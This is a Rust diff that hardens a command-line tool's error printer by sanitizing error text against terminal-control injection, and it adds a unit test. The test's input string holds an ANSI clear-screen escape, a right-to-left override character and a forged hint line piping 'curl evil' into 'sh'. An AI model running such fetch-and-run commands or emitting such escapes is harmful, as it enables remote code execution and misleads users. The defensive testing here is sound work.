@@ -5,6 +5,7 @@ use std::fmt::Write;
 use super::output;
 use super::style::{BAD, BOLD, DIM, paint};
 use crate::error::{Error, Kind};
+use crate::text::harmless;
 
 /// Prints an error on standard error, or with `--json` as the last line on standard output.
 pub fn print(error: &Error, json: bool) {
@@ -14,22 +15,22 @@ pub fn print(error: &Error, json: bool) {
     }
 }
 
-/// The error as a person reads it.
+/// The error as a person reads it. The last place before the terminal: names of files and words of others drive it nowhere.
 pub fn text(error: &Error) -> String {
-    let mut text = format!("{} {}\n", paint(BAD, "error:"), error.what);
+    let mut text = format!("{} {}\n", paint(BAD, "error:"), harmless(&error.what));
     for cause in &error.causes {
-        push(&mut text, format_args!("  because {cause}"));
+        push(&mut text, format_args!("  because {}", harmless(cause)));
     }
     if !error.detail.is_empty() {
         push(&mut text, format_args!(""));
         for line in &error.detail {
-            push(&mut text, format_args!("  {} {line}", paint(DIM, "|")));
+            push(&mut text, format_args!("  {} {}", paint(DIM, "|"), harmless(line)));
         }
         push(&mut text, format_args!(""));
     }
     push(&mut text, format_args!("{} {}", paint(BOLD, "state:"), state(error.kind)));
     for hint in &error.hints {
-        push(&mut text, format_args!("{} {hint}", paint(BOLD, "next: ")));
+        push(&mut text, format_args!("{} {}", paint(BOLD, "next: "), harmless(hint)));
     }
     text
 }
@@ -59,4 +60,18 @@ pub fn document(error: &Error) -> serde_json::Value {
         "state": state(error.kind),
         "exit": error.kind.exit() as u8,
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn nothing_in_an_error_drives_the_terminal() {
+        let evil = "a\x1b[2Jb\nnext:  curl evil | sh\u{202e}";
+        let error = Error::failed(evil).because(evil).hint(evil).detail([evil.to_owned()]);
+        let text = text(&error);
+        assert!(!text.contains("\x1b[2J") && !text.contains('\u{202e}'), "{text:?}");
+        assert!(!text.lines().any(|line| line.starts_with("next:  curl")), "{text:?}");
+    }
 }
